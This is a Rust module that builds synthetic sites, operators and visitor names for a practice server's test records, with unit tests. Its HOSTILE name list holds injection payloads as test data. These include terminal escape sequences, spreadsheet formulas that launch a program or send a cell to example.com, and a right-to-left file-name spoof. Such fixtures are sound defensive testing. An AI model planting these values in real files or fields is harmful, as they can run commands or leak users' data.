//! Who is in the records: sites, operators and visitors.

use super::dice::{Dice, Purpose};
use uuid::Uuid;

/// The sites of the practice server. The first is the one of the document's Ruby example;
/// the document's sample records belong to it.
pub(crate) const SITE_IDS: [&str; 2] = [
    "e1c6bd0b-aef2-4948-8182-85a075f419e0",
    "5b0c7a52-3d0f-4c1e-9a64-0f2c8f1de7b3",
];

/// The operators of the practice server. The first two are those of the document's samples.
pub(crate) const OPERATOR_IDS: [&str; 5] = [
    "18529853-4487-4234-be0b-7ca94e1e06bf",
    "f8769233-937d-4550-bdd3-8613027b2729",
    "0a9c1f6e-52b7-4d0a-8f35-6d1b7f1c2e90",
    "7d4e2b18-c6a3-4f59-b1d7-93e5a0c8f642",
    "c35f8d07-19e4-4b62-a8c0-2f7b6d94e1a5",
];

/// Their names, in the order of [`OPERATOR_IDS`]; the second is the document's.
pub(crate) const OPERATOR_NAMES: [&str; OPERATOR_IDS.len()] = [
    "Maria Tamm",
    "Alex Raffa",
    "Jürgen O'Neill",
    "Priya Raman",
    "佐藤 花子",
];

/// Who handled an engagement, as places in [`SITE_IDS`] and [`OPERATOR_IDS`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Handling {
    /// The site that the engagement began on.
    pub(crate) site: usize,
    /// The operator who answered.
    pub(crate) operator: usize,
    /// The operator to whom the engagement was transferred, if it was.
    pub(crate) successor: Option<usize>,
}

impl Handling {
    /// Who handled engagement `number` under `seed`.
    pub(crate) fn of(seed: u64, number: u64) -> Self {
        let mut dice = Dice::new(seed, Purpose::Handling, number);
        let site = usize::from(dice.one_in(3));
        let operator = dice.place(OPERATOR_IDS.len());
        let others = dice.place(OPERATOR_IDS.len() - 1) + 1;
        let successor = dice
            .one_in(12)
            .then_some((operator + others) % OPERATOR_IDS.len());
        Self {
            site,
            operator,
            successor,
        }
    }

    /// All operators who took part, in the order in which they did.
    pub(crate) fn operators(self) -> impl Iterator<Item = usize> + Clone {
        std::iter::once(self.operator).chain(self.successor)
    }
}

/// The id of visitor `visitor` under `seed`.
pub(crate) fn visitor_id(seed: u64, visitor: usize) -> Uuid {
    Dice::new(seed, Purpose::Visitor, visitor as u64).uuid()
}

/// How many visitors with ordinary names there are; the hostile ones come after them.
const ORDINARY: usize = 600;
/// One engagement in so many is with a visitor whose name is hostile.
const HOSTILE_EVERY: u64 = 9;

/// The names of all visitors, as JSON text: a string, or null.
pub(crate) struct VisitorNames(Vec<String>);

impl VisitorNames {
    /// Makes the names up; they do not depend on the seed.
    pub(crate) fn new() -> Self {
        let ordinary = (0..ORDINARY).map(ordinary_name);
        let hostile = HOSTILE.iter().map(|name| Some((*name).to_owned()));
        let long = std::iter::once(Some(LONG.chars().cycle().take(300).collect()));
        let as_json = |name: Option<String>| serde_json::json!(name).to_string();
        Self(ordinary.chain(hostile).chain(long).map(as_json).collect())
    }

    /// Which visitor engagement `number` is with. Hostile names come round in turn, so that
    /// every list of a few hundred has them all, whatever the seed.
    pub(crate) fn visitor(&self, number: u64, dice: &mut Dice) -> usize {
        if number % HOSTILE_EVERY == 4 {
            let turn = usize::try_from(number / HOSTILE_EVERY).unwrap_or(0);
            ORDINARY + turn % (self.0.len() - ORDINARY)
        } else {
            dice.place(ORDINARY)
        }
    }

    /// The name of a visitor as JSON text.
    pub(crate) fn json(&self, visitor: usize) -> &str {
        &self.0[visitor]
    }
}

/// A numbered visitor as in the document, a name that the site told, or none at all.
fn ordinary_name(visitor: usize) -> Option<String> {
    let first = FIRST_NAMES[visitor % FIRST_NAMES.len()];
    let last = LAST_NAMES[visitor % LAST_NAMES.len()];
    match visitor % 13 {
        0 => None,
        1..=5 => Some(format!("Visitor #{visitor}")),
        _ => Some(format!("{first} {last}")),
    }
}

const FIRST_NAMES: [&str; 14] = [
    "Anna", "Bruno", "Chloé", "Dmitri", "Elif", "Femi", "Grace", "Hassan", "Inês", "Jonas",
    "Katrin", "Liam", "Mei", "Noor",
];

const LAST_NAMES: [&str; 15] = [
    "Abara",
    "Becker",
    "Carvalho",
    "Demir",
    "Evans",
    "Fischer",
    "García",
    "Huang",
    "Ivanova",
    "Jones",
    "Kask",
    "Lindström",
    "Moreau",
    "Novák",
    "O’Brien",
];

/// Names that strangers typed to do harm to terminals, spreadsheets and parsers, and honest
/// ones that do it all the same.
const HOSTILE: [&str; 20] = [
    "\u{1b}[31mRed\u{1b}[0m\u{1b}]0;owned\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\u{202e}gnp.exe\u{202c}",
    "😀 Zoë 👩\u{200d}👩\u{200d}👧",
    "山田 太郎",
    "عائشة بنت أحمد",
    "first line\nsecond line\r\nthird",
    "Bob \"the\tBuilder\" O'Neil, Jr; \\",
    "\u{9b}31mC1\u{85}",
    "del\u{7f}ete",
    "zero\u{200b}width\u{feff}\u{2060}",
    "nul\u{0}byte",
    "",
    " spaces ",
    "null",
    "Z\u{321}\u{34e}\u{489}a\u{335}\u{31b}l\u{338}g\u{35c}o",
];

/// What the name of 300 characters is made of.
const LONG: &str = "Wolfeschlegelsteinhausenbergerdorff ";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_hostile_name_is_among_the_first_200_engagements() {
        let names = VisitorNames::new();
        let mut dice = Dice::new(1, Purpose::Record, 1);
        let seen: Vec<_> = (0..200)
            .map(|number| names.visitor(number, &mut dice))
            .collect();
        assert!((ORDINARY..names.0.len()).all(|visitor| seen.contains(&visitor)));
    }

    #[test]
    fn names_are_json_and_one_has_300_characters() {
        let names = VisitorNames::new();
        let parse = |json: &String| serde_json::from_str::<Option<String>>(json).unwrap();
        let lengths: Vec<_> = names
            .0
            .iter()
            .filter_map(parse)
            .map(|n| n.chars().count())
            .collect();
        assert_eq!(lengths.iter().max(), Some(&300));
        assert!(lengths.len() < names.0.len(), "some visitors have no name");
    }

    #[test]
    fn both_sites_and_every_operator_are_busy_and_some_engagements_are_transferred() {
        let handled: Vec<_> = (0..250).map(|number| Handling::of(1, number)).collect();
        assert!((0..SITE_IDS.len()).all(|site| handled.iter().any(|by| by.site == site)));
        let busy = |place| handled.iter().any(|by| by.operator == place);
        assert!((0..OPERATOR_IDS.len()).all(busy));
        assert!(handled.iter().any(|by| by.successor.is_some()));
        assert!(handled.iter().all(|by| by.successor != Some(by.operator)));
    }
}
